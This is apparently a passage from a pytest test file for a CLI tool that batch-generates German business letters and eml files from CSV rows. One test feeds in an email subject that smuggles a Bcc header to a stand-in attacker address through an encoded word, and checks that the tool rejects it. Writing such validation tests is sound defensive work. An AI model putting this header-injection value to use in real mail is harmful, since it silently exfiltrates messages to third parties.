    leftovers = [p.name for p in out.iterdir() if p.name.startswith(".")]
    assert leftovers == []
    report = json.loads((out / "report.json").read_text("utf-8"))
    done = {r["file"] for r in report["rows"] if r["status"] == "written"}
    assert 0 < len(done) < 20_000
    assert {p.name for p in out.glob("*.md")} == done
    assert report["summary"]["written"] == len(done)
    assert report["summary"]["interrupted"] is True
    for path in out.glob("*.md"):
        assert path.read_text("utf-8").endswith("Mit freundlichen Grüßen\\\nAnna Schäfer\n"), path


def test_encoded_word_in_a_subject_fails_the_row_for_eml(runner, tmp_path):
    evil = "Frist =?UTF-8?Q?x=0ABcc:_evil@attacker.example?="
    write_csv(
        tmp_path / "rows.csv",
        [row(subject=evil), row(recipient__last_name="Weber")],
        columns=[*COLUMNS, "subject"],
    )
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--format", "eml")
    assert result.exit_code == 1
    assert result.stderr.startswith(
        "rows.csv:2: subject: 'Frist =?UTF-8?Q?x=0ABcc:_evil@attacker.example?=' contains '=?', "
        "which mail programs decode as an encoded word\n"
    )
    assert names(tmp_path / "out") == ["report.csv", "report.json", "weber-katrin.eml"]


def test_outputs_are_private(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row()])
    old = os.umask(0o027)
    try:
        assert batch(runner, "rows.csv", "--lang", "de", "-o", "out").exit_code == 0
    finally:
        os.umask(old)
    assert (tmp_path / "out" / "mueller-katrin.md").stat().st_mode & 0o777 == 0o600


def test_rerun_with_force_is_byte_identical(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row(), row(recipient__last_name="Weber")])
    assert batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--format", "eml").exit_code == 0
    first = {p.name: p.read_bytes() for p in (tmp_path / "out").iterdir()}
    again = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--format", "eml", "--force")
    assert again.exit_code == 0
    documents = {p.name: p.read_bytes() for p in (tmp_path / "out").iterdir() if p.suffix == ".eml"}
    assert documents == {name: data for name, data in first.items() if name.endswith(".eml")}
    assert len(documents) == 2
    report = json.loads((tmp_path / "out" / "report.json").read_text("utf-8"))
    assert [r["status"] for r in report["rows"]] == ["unchanged", "unchanged"]


def test_progress_bar_on_a_terminal(runner, tmp_path, monkeypatch):
    from phrasebook.cli import batch as batch_cli

    monkeypatch.setattr(batch_cli, "progress_bar", lambda: batch_cli.ProgressBar())
    write_csv(tmp_path / "rows.csv", [row(), row(recipient__last_name="Weber")])
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 0, result.stderr
    assert "Rendering" in result.stderr


def test_report_json_lines_match_the_json_module():
    from phrasebook.batch.report import json_text as _json_text

    for value in [None, "Müller", 'a"b\\c', "\x00\x1f\u2028", "😀", "line\nbreak"]:
        assert _json_text(value) == json.dumps(value, ensure_ascii=False)


def test_tab_separated_rows(runner, tmp_path):
    write_csv(tmp_path / "rows.txt", [row()], delimiter="\t")
    result = batch(runner, "rows.txt", "--lang", "de", "-o", "out", "--delimiter", "tab")
    assert result.exit_code == 0, result.stderr
    assert names(tmp_path / "out") == ["mueller-katrin.md", "report.csv", "report.json"]


def test_client_column_without_profiles(runner, tmp_path):
    write_csv(
        tmp_path / "rows.csv",
        [["mueller", "x", "2026-12-02"]],
        columns=["client", "deliverable", "deadline"],
    )
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 2
    assert result.stderr.endswith(
        "Error: rows.csv: the rows name clients (column 'client') but no client profiles are "
        f"loaded; pass --clients FILE or create {tmp_path / 'config' / 'clients.yaml'}\n"
    )


def test_a_base_default_that_needs_a_partner_applies_only_where_it_has_one(runner, tmp_path):
    (tmp_path / "base.yaml").write_text(
        "sender: {name: Anna Schäfer}\nrequest: eine englische Version\n"
        "agreed_scope: [die Startseite]\nvat: plus\n", encoding="utf-8",
    )
    (tmp_path / "rows.csv").write_text(
        "recipient.last_name,recipient.gender,extra_price,extra_days\n"
        "Müller,female,1.500,\nWeber,male,,3\n", encoding="utf-8",
    )
    result = runner.invoke(cli, ["batch", "scope-decline", "rows.csv", "--lang", "de", "-o", "out",
                                 "--params", "base.yaml", "--format", "text", *TODAY_ARG])
    assert result.exit_code == 0, result.output
    texts = {p.name: p.read_text(encoding="utf-8") for p in (tmp_path / "out").glob("*.txt")}
    assert len(texts) == 2
    with_fee = [t for t in texts.values() if "1.500,00" in t]
    assert len(with_fee) == 1 and "1.500,00\xa0€ zuzüglich Umsatzsteuer" in with_fee[0]
    assert sum("Umsatzsteuer" in t for t in texts.values()) == 1


def test_the_report_never_replaces_an_input_or_someone_elses_file(runner, tmp_path):
    write_csv(tmp_path / "report.csv", [row()])
    before = (tmp_path / "report.csv").read_bytes()
    result = batch(runner, "report.csv", "--lang", "de", "-o", ".")
    assert result.exit_code == 2
    assert "report.csv: the batch would write its report over this file" in result.stderr
    assert (tmp_path / "report.csv").read_bytes() == before

    write_csv(tmp_path / "rows.csv", [row()])
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "report.json").write_text('{"mine": true}\n')
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 1
    assert result.stderr.endswith(
        "Error: out/report.json (not a phrasebook report) already exists; use --force to replace it\n"
    )
    assert (tmp_path / "out" / "report.json").read_text() == '{"mine": true}\n'
    # an earlier phrasebook report is replaced by the next run, and --force replaces anything
    assert batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--force").exit_code == 0
    assert batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--force").exit_code == 0
    assert json.loads((tmp_path / "out" / "report.json").read_text())["summary"]["unchanged"] == 1


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_a_second_run_replaces_its_own_reports_in_every_delimiter(runner, tmp_path, delimiter):
    write_csv(tmp_path / "rows.csv", [row()], delimiter=delimiter)
    extra = ("--delimiter", delimiter) if delimiter == "|" else ()
    first = batch(runner, "rows.csv", "--lang", "de", "-o", "out", *extra)
    assert first.exit_code == 0, first.stderr
    report = (tmp_path / "out" / "report.csv").read_bytes()
    sep = delimiter.encode()
    assert report.startswith(b'\xef\xbb\xbf"line"' + sep + b'"status"' + sep + b'"file"')
    # no --force: the reports of the first run are phrasebook's own and are replaced
    second = batch(runner, "rows.csv", "--lang", "de", "-o", "out", *extra)
    assert second.exit_code == 0, second.stderr
    assert json.loads((tmp_path / "out" / "report.json").read_text())["summary"]["unchanged"] == 1
    lines = (tmp_path / "out" / "report.csv").read_text(encoding="utf-8-sig").splitlines()
    assert lines[1].split(delimiter)[:2] == ['"2"', '"unchanged"']
    # a file of that name that only looks like a CSV with those columns is still not replaced
    (tmp_path / "out" / "report.csv").write_text('line;status;file\n1;written;x.md\n', encoding="utf-8")
    third = batch(runner, "rows.csv", "--lang", "de", "-o", "out", *extra)
    assert third.exit_code == 1
    assert third.stderr.endswith(
        "Error: out/report.csv (not a phrasebook report) already exists; use --force to replace it\n"
    )


@pytest.mark.parametrize(
    ("encoding", "message"),
    [("rot13", "'rot13' is not a text encoding; try utf-8 or cp1252"),
     ("base64", "'base64' is not a text encoding; try utf-8 or cp1252"),
     ("utf-16", "rows.csv: cannot be read as utf-16 (UTF-16 stream does not start with BOM)")],
)
def test_encodings_that_cannot_read_the_rows_are_clear_errors(runner, tmp_path, encoding, message):
    write_csv(tmp_path / "rows.csv", [row()])
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--encoding", encoding)
    assert result.exit_code == 2
    assert result.stderr.endswith(f"Error: {message}\n")
